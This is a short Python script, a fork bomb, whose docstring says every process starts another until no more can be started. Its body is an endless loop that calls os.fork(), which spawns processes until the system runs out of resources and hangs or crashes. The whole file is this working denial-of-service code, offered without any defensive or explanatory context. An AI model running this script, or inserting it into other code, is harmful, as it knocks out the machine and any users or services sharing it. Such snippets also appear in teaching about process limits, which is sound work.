"""Every process starts another one, until no more can be started."""

import os

while True:
    os.fork()
